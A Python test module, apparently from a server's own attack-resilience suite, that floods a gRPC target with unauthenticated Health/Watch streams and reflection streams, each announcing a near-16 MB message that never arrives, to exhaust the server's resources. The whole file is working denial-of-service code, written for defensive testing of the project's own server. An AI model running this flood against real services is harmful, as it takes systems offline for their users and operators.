"""Health and reflection, which need no credential here: watched without end, and asked with endless questions."""

from __future__ import annotations

import contextlib
import time

from tests.attack.target import Setting, Target
from tests.attack.wire import DATA, Connection, frame, message

SETTING = Setting(tokens=False)
CONNECTIONS, STREAMS = 50, 60


def attack(target: Target, share: float) -> str:
    connections = max(10, round(CONNECTIONS * share))
    with contextlib.ExitStack() as stack:
        for number in range(connections):
            with contextlib.suppress(OSError):
                connection = stack.enter_context(Connection(target.endpoint))
                for _ in range(STREAMS):
                    connection.call("grpc.health.v1.Health/Watch", b"\x0a\x05x%04d" % number)
                    asked = connection.open("grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
                    connection.send(frame(DATA, 0, asked, message(b"", length=0xFFFFFF)))
        time.sleep(2)
    return f"{connections * STREAMS * 2} streams of health and reflection"
